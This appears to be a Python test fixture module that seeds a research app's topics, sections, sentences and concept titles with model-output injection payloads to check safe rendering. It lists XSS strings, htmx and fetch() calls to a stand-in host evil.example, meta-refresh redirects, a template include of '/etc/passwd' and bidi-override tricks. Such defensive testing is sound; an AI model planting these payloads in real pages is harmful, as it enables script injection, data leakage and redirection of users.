"""A topic in which a model's every word is an attack: its name, its version, headings, sentences of every kind, the
reasons why it failed; on pages that are whole, that are being written, and that it could not write."""

from __future__ import annotations

from dataclasses import replace

from sapere.accounts.models import Person
from sapere.research.ports import Store
from sapere.research.shapes import Citation, Section, Sentence, SentenceState
from sapere.topics import actions
from sapere.topics.models import Concept, Run
from tests.doubles.authored import OPENINGS, PORES, Pen, authored, drafted, stomata

ELSEWHERE = "evil.example"
SHORT = f"<img src=//{ELSEWHERE}/1 onerror=alert(1)>"
PAYLOADS = (
    SHORT,
    f"<script>alert(2);fetch('https://{ELSEWHERE}/2')</script>",
    f'"\' onmouseover=alert(3) data-card="https://{ELSEWHERE}/3" hx-get="https://{ELSEWHERE}/3" hx-trigger="load" x="',
    f'<div hx-get="https://{ELSEWHERE}/4" hx-trigger="load" hx-on:load="alert(4)"></div>',
    "<a href=javascript:alert(5)>read on</a>",
    f"<style>@import 'https://{ELSEWHERE}/6'</style><link rel=stylesheet href=https://{ELSEWHERE}/6>",
    f"<meta http-equiv=refresh content='0;url=https://{ELSEWHERE}/7'><base href=https://{ELSEWHERE}/>",
    f"</span></p></article><iframe srcdoc='<script>alert(8)</script>' src=https://{ELSEWHERE}/8></iframe>",
    f"![x](https://{ELSEWHERE}/9.png) [y](javascript:alert(9))",
    rf"\(\href{{javascript:alert(10)}}{{x}} \includegraphics{{https://{ELSEWHERE}/10}}\) <svg onload=alert(10)>",
    "{{ request.META }}{% include '/etc/passwd' %}{% load i18n %}",
    '<p id="live" hx-swap-oob="innerHTML">gone</p><template><script>alert(12)</script></template>',
    "\u202e\u2066<img src=x onerror=alert(13)>\u2069",
)
ALL = " ".join(PAYLOADS)
KINDS = ("prose", "list", "code", "formula", "table")


def poisoned(owner: Person, store: Store, topic: str = "Photosynthesis") -> Run:
    """A finished topic."""
    run = authored(owner, store, topic)
    pen = Pen.of(run, store)
    actions.keep_page(run, replace(stomata(pen), sections=_sections(pen), writer=SHORT, prompt=SHORT[:60]))
    pen.concept("Rubisco").pages.update(fallback=ALL)
    _spoil_tree(pen)
    return run


def poisoning(owner: Person, store: Store, topic: str) -> Run:
    """A run in which a model has said its worst of one page and failed at another, with all that is told of it."""
    run = drafted(owner, store, topic)
    pen = Pen.of(run, store)
    for section in _sections(pen):
        for place, sentence in enumerate(section.sentences):
            pen.says("Stomata", place, section.heading, sentence)
    failed = replace(pen.page("Rubisco"), writer="extractive", fallback=ALL)
    pen.told(failed)
    actions.tell(run.pk, "note", {"text": ALL, "meanings": [{"title": "x"}, {"title": ALL, "gloss": ALL}]})
    return run


def _sections(pen: Pen) -> tuple[Section, ...]:
    said = [Sentence(one, *_standing(pen, at), kind) for kind in KINDS for at, one in enumerate(PAYLOADS)]
    tabled = Sentence(f"{SHORT}\n\n{ALL} | {ALL}\n{ALL} | {ALL}", *_standing(pen, 0), "table")
    return (Section(ALL, (*said, tabled)),)


def _standing(pen: Pen, at: int) -> tuple[SentenceState, tuple[Citation, ...]]:
    given = pen.inferred("", PORES, OPENINGS) if at % 2 else pen.supported("", PORES)
    return given.state, given.citations


def _spoil_tree(pen: Pen) -> None:
    spoilt = {"question": ALL, "summary": ALL}
    Concept.objects.filter(topic=pen.topic, title="Stomata").update(**spoilt)
    Concept.objects.filter(topic=pen.topic, title="Water loss").update(title=ALL[:300], **spoilt)
